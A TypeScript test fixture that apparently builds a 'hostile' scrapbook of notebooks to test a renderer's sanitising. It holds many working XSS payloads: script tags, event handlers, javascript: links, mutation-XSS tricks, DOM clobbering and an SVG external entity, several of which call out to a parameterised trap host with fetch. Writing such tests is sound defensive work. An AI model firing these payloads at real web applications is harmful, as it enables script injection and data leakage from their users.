import { type Notebook, Scrapbook, ScrapbookError } from "@scrapbook/core";
import { type GivenScrap, notebookOf } from "./notebook.ts";

/** What a script would do that ran: show a dialog, mark every window it reaches, and call home. */
const attack = (trap: string) =>
  `try{alert(1)}catch{}try{top.pwned=1}catch{}window.pwned=1;document.title="pwned";fetch("${trap}/fetch")`;

/** HTML that wants to run, load, send or go somewhere. */
export function hostileMarkup(trap: string): Readonly<Record<string, string>> {
  const run = attack(trap).replaceAll('"', "&quot;");
  return {
    script: `<p>x<script>${attack(trap)}</script>`,
    "script from elsewhere": `<p>x<script src="${trap}/script.js"></script>`,
    "module preload": `<p>x<link rel="modulepreload" href="${trap}/module.js">`,
    "event handlers": `<p>x<img src="x" onerror="${run}"><body onload="${run}"><details open ontoggle="${run}">x</details><svg onload="${run}"></svg><input autofocus onfocus="${run}">`,
    "meta refresh": `<p>x<meta http-equiv="refresh" content="0; url=${trap}/refresh">`,
    "meta refresh to data": `<p>x<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">`,
    "meta refresh with a slash": `<p>x<meta/http-equiv=refresh content="0;url=${trap}/refresh2">`,
    base: `<p>x<base href="${trap}/base/"><img src="relative.png"><a href="link">go</a>`,
    form: `<form action="${trap}/form" method="post"><input name="a" value="b"><button>go</button></form>`,
    "form that posts to the top": `<form action="${trap}/form" target="_top"><button>go</button></form>`,
    "javascript link": `<a href="javascript:${run}">go</a>`,
    "link to elsewhere": `<a href="${trap}/link" ping="${trap}/ping">go</a>`,
    "link for the top": `<a href="${trap}/top" target="_top">go</a>`,
    "link for a new window": `<a href="${trap}/blank" target="_blank">go</a>`,
    "link to data": `<a href="data:text/html,<script>alert(1)</script>" target="_top">go</a>`,
    "css url": `<style>@import url(${trap}/import.css);@font-face{font-family:f;src:url(${trap}/font.woff)}p{background:url(${trap}/css.png);font-family:f;cursor:url(${trap}/cursor.png),auto}</style><p style="background-image:url('${trap}/style.png');list-style-image:url(${trap}/list.png)">x</p>`,
    pictures: `<p>x<img src="${trap}/img.png" srcset="${trap}/2x.png 2x"><picture><source srcset="${trap}/source.png"><img src=""></picture><video src="${trap}/video" poster="${trap}/poster.png"></video><audio src="${trap}/audio"></audio><input type="image" src="${trap}/input.png"><table background="${trap}/table.png"><tr><td background="${trap}/td.png">x</table><track src="${trap}/track">`,
    "link elements": `<p>x<link rel="stylesheet" href="${trap}/link.css"><link rel="preconnect" href="${trap}"><link rel="dns-prefetch" href="${trap}"><link rel="prefetch" href="${trap}/prefetch"><link rel="preload" as="image" href="${trap}/preload.png"><link rel="icon" href="${trap}/icon.png"><link rel="prerender" href="${trap}/prerender"><link rel="manifest" href="${trap}/manifest">`,
    "nested frames": `<p>x<iframe src="${trap}/frame"></iframe><iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;&lt;link rel=preconnect href=${trap}&gt;"></iframe><object data="${trap}/object"></object><embed src="${trap}/embed"><frameset><frame src="${trap}/frameset"></frameset>`,
    "frame of data": `<p>x<iframe src="data:text/html,<script>parent.postMessage(1,'*');alert(1)</script>"></iframe><object data="data:text/html,<script>alert(1)</script>"></object>`,
    "svg inline": `<p>x<svg><use href="${trap}/use.svg#a"/><image href="${trap}/image.png"/><script>${attack(trap)}</script><foreignObject><img src="${trap}/foreign.png"></foreignObject><a href="javascript:${run}"><text y="9">go</text></a><animate attributeName="href" values="javascript:alert(1)"/></svg>`,
    "end of the frame": `</iframe></figure></main><script>${attack(trap)}</script>"><script>${attack(trap)}</script>' srcdoc='<script>${attack(trap)}</script>`,
    clobbering: `<form name="body"><input name="querySelectorAll"></form><a id="tBodies"></a><img name="defaultView"><table class="overview sortable"></table><div id="notebook-1"></div>`,
    "mutation in a table": `<table><tr><td><svg></p><style><a id="</style><img src=${trap}/mutation.png onerror=${"alert(1)"}>"></table>`,
    "mutation in math": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${trap}/math.png onerror=alert(1)&gt;">`,
    "mutation in noscript": `<p>x<noscript><p title="</noscript><img src=${trap}/noscript.png onerror=alert(1)>"></noscript>`,
    "declarative shadow root": `<div>x<template shadowrootmode="open"><link rel="preconnect" href="${trap}"><img src="${trap}/shadow.png"><slot></slot></template></div>`,
    "entities in a table": `<table><tr><td>&lt;script&gt;${run}&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;</td></tr></table>`,
    "handlers in a table": `<table onmouseover="${run}"><tr><td onclick="${run}" style="background:url(${trap}/cell.png)">x</td></tr></table>`,
    policy: `<p>x<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="${trap}/policy.png">`,
    speculation: `<p>x<script type="speculationrules">{"prerender":[{"urls":["${trap}/speculation"]}]}</script>`,
  };
}

/** SVG pictures that want the same. */
export function hostileSvg(trap: string): Readonly<Record<string, string>> {
  const root = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="alert(1)">`;
  return {
    "svg script": `${root}<script>${attack(trap)}</script><script href="${trap}/svg.js"/></svg>`,
    "svg use": `${root}<use href="${trap}/use.svg#a"/><use xlink:href="${trap}/use2.svg#a"/></svg>`,
    "svg pictures": `${root}<image href="${trap}/image.png" width="9" height="9"/><filter id="f"><feImage href="${trap}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    "svg html": `${root}<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${trap}/foreign.png"/><iframe src="${trap}/frame"/><script>${attack(trap)}</script><meta http-equiv="refresh" content="0;url=${trap}/r"/></body></foreignObject></svg>`,
    "svg style": `<?xml-stylesheet href="${trap}/xml.css"?>${root}<style>@import url(${trap}/import.css);rect{fill:url(${trap}/fill.svg#a)}</style><rect width="9" height="9"/></svg>`,
    "svg entity": `<!DOCTYPE svg [<!ENTITY e SYSTEM "${trap}/entity">]>${root}<text>&e;</text></svg>`,
  };
}

/** Text that wants to become markup, for every place where a notebook may put text. */
export function hostileTexts(trap: string): readonly string[] {
  const script = `<script>${attack(trap)}</script>`;
  return [
    script,
    `"><img src=${trap}/attribute.png onerror=alert(1)>`,
    `' onmouseover='alert(1)`,
    `</td></table></title></style></textarea></pre></iframe></script>${script}`,
    `<!--${script}`,
    "]]>--!><svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe\u2066\u2028",
    "__proto__",
    "javascript:alert(1)",
    "\ud800\u0000\u001b]0;title\u0007",
  ];
}

/** A scrapbook of notebooks that hold all of it, in every place. */
export function hostileBook(trap: string): Scrapbook {
  const texts = hostileTexts(trap);
  const scraps: [string, GivenScrap][] = [];
  for (const [name, markup] of Object.entries(hostileMarkup(trap))) {
    scraps.push([name, { display: { "text/html": markup, "text/plain": markup } }]);
    for (const mime of ["text/markdown", "text/latex", "text/plain", "text/x-other"]) {
      scraps.push([`${name} as ${mime}`, { display: { [mime]: markup } }]);
    }
  }
  for (const [name, svg] of Object.entries(hostileSvg(trap))) {
    scraps.push([name, { display: { "image/svg+xml": svg } }]);
  }
  for (const text of texts) {
    const sizes = { "image/png": { width: text, height: `1" onload="alert(1)` } };
    scraps.push([text, { data: text }]);
    scraps.push([`list ${text}`, { data: [text, { [text]: text }] }]);
    scraps.push([`encoder ${text}`, { data: text, encoder: text }]);
    scraps.push([`json ${text}`, { display: { "application/json": { [text]: [text] } } }]);
    scraps.push([`mime ${text}`, { display: { [text]: text, [`image/png${text}`]: text } }]);
    scraps.push([`picture ${text}`, { display: { "image/png": text }, metadata: sizes }]);
    scraps.push([`script ${text}`, { display: { "application/javascript": attack(trap) } }]);
  }
  const papermill = {
    exception: true,
    start_time: texts[1],
    end_time: texts[3],
    version: texts[1],
    parameters: Object.fromEntries(texts.map((text) => [text, text])),
  };
  const failed = {
    cell_type: "code",
    metadata: { papermill: { exception: true, status: "failed" } },
    source: "",
    execution_count: texts[0],
    outputs: [{ output_type: "error", ename: texts[0], evalue: texts[3], traceback: [] }],
  };
  const invalid = {
    cell_type: "code",
    metadata: {},
    source: "",
    outputs: texts.map((text) => ({
      output_type: "display_data",
      metadata: {},
      data: { [`application/scrapbook.scrap.${text}+json`]: { name: text, version: text } },
    })),
  };
  const notebook = notebookOf(wellFormed(scraps), {
    papermill: plain(papermill),
    cells: [failed, invalid].map(plain),
  });
  const small = notebookOf({ [texts[0] as string]: { data: 1 } });
  return new Scrapbook(
    texts.map((text, index): [string, Notebook] => [text, index === 0 ? notebook : small]),
    texts.map((text): [string, ScrapbookError] => [
      text,
      new ScrapbookError(text as never, {
        what: text,
        source: text,
        path: text,
        got: text,
        hint: text,
      }),
    ]),
  );
}

/** Files hold no lone surrogate as a character: the reader refuses it. */
function plain(value: unknown): unknown {
  return JSON.parse(JSON.stringify(value).replaceAll("\\ud800", "\\ufffd"));
}

function wellFormed(scraps: [string, GivenScrap][]): [string, GivenScrap][] {
  return plain(scraps) as [string, GivenScrap][];
}
